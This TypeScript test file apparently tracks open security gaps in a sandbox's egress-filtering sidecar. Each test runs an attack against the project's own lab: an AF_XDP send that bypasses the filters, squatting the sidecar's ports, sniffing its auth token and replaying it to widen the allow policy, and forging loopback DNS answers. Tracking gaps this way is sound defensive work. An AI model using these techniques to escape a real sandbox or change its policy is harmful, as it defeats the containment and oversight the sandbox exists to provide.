/**
 * What a hostile workload can still do: each test shows that the attack works today. When one fails the gap is closed; then it moves to the
 * file of its row, turned round, and out of the table "Open" of SECURITY.md.
 */
import { afterEach, beforeEach, expect, test } from "vitest";
import { z } from "zod";
import { writeSysctl } from "../../src/netns/namespace.ts";
import { FAMILIES } from "../support/families.ts";
import { readAddresses } from "../support/kernel-sets.ts";
import { startJsonServer } from "../support/json-server.ts";
import { createLab, type Lab } from "../support/lab.ts";
import { until } from "../support/until.ts";
import { attack, attackArgv, deniedAddress, leaksOf, macOf, POLICY, startAttack } from "./attack.ts";

const FORGED = "203.0.113.66";

let lab: Lab;
beforeEach(async () => {
  lab = await createLab();
});
afterEach(() => lab[Symbol.asyncDispose]());

test("known gap: row 4: the socket monitor tells anyone half of the sidecar's mark", async () => {
  await lab.startSidecar({ policy: POLICY });
  await lab.dig("diag.wild.example.org");
  const told = Object.entries(await attack(lab, "marks", "diag"));
  expect(told.filter(([what]) => what.startsWith("mark of"))).toEqual([]);
  const priorities = told.filter(([what]) => /^priority of \d+ to 53$/.test(what)).map(([, value]) => value);
  expect(new Set(priorities).size).toBe(1);
});

test.each(FAMILIES)("known gap: row 21: an AF_XDP socket sends past every hook, $name", async (family) => {
  if (family.name === "IPv6" && !lab.ipv6) return;
  await lab.startSidecar({ policy: POLICY });
  const destination = deniedAddress(family, 21);
  const gateway = await macOf(lab.internet);
  const leaks = await leaksOf(lab, async () => {
    console.log(await attack(lab, "xdp", "eth0", gateway, family.sandbox, destination));
  });
  expect(leaks).toMatchObject([{ destination, destinationPort: 21 }]);
});

test("known gap: row 11: a workload that holds the resolver's ports keeps the sidecar from starting", async () => {
  await using _ = await startAttack(lab, "squat", "hold", "15353");
  const sidecar = await lab.startSidecar({ policy: POLICY, awaitHealth: false });
  console.log(
    await Promise.race([sidecar.exit, until("x", () => false, 8000).catch(() => "still runs")]),
    sidecar.output(),
  );
});

test("known gap: row 11: a workload that holds the API's port", async () => {
  await using squatter = await startAttack(lab, "squat", "hold", "18080");
  const sidecar = await lab.startSidecar({ policy: POLICY, awaitHealth: false });
  console.log(
    await Promise.race([sidecar.exit, until("x", () => false, 4000).catch(() => "still runs")]),
    sidecar.output(),
  );
  await lab.curlFromOutside(
    "-H",
    `OPENSANDBOX-EGRESS-AUTH: ${sidecar.token}`,
    "http://192.0.2.2:18080/policy",
  );
  console.log(squatter.lines);
});

test("known gap: row 22: without signed writes a token read off the wire changes the policy", async () => {
  const sidecar = await lab.startSidecar({ policy: POLICY });
  await using sniffer = await startAttack(lab, "sniff", "eth0", "OPENSANDBOX-EGRESS-AUTH");
  await lab.curlFromOutside(
    "-H",
    `OPENSANDBOX-EGRESS-AUTH: ${sidecar.token}`,
    "http://192.0.2.2:18080/policy",
  );
  const seen = await until("the token is seen", () => sniffer.lines.find(({ event }) => event === "seen"));
  const { value } = z.object({ value: z.string() }).parse(seen);
  const body = JSON.stringify([{ action: "allow", target: "203.0.113.0/24" }]);
  const call = [
    "-X",
    "PATCH",
    "-H",
    `OPENSANDBOX-EGRESS-AUTH: ${value}`,
    "-d",
    body,
    "http://127.0.0.1:18080/policy",
  ];
  expect(await lab.curl(...call)).toMatchObject({ status: 200 });
});

test("known gap: row 24: answers of a resolver on loopback can be forged by raw sockets", async () => {
  await writeSysctl(lab.sandbox, "net.ipv4.conf.all.rp_filter", "0");
  const argv = attackArgv("loopback_resolver", ["127.0.0.11", "53", "198.51.100.20", "200"]);
  await using _ = await startJsonServer(lab.sandbox, argv);
  await lab.startSidecar({ policy: POLICY, env: { OPENSANDBOX_EGRESS_DNS_UPSTREAM: "127.0.0.11" } });
  await using forger = await startAttack(lab, "forge_answers", "lo", FORGED, "2001:db8:100:ee::66");
  const answer = await lab.dig("forged.wild.example.org");
  console.log(answer.addresses, await readAddresses(lab.sandbox, "dyn_allow_v4"), forger.lines);
});
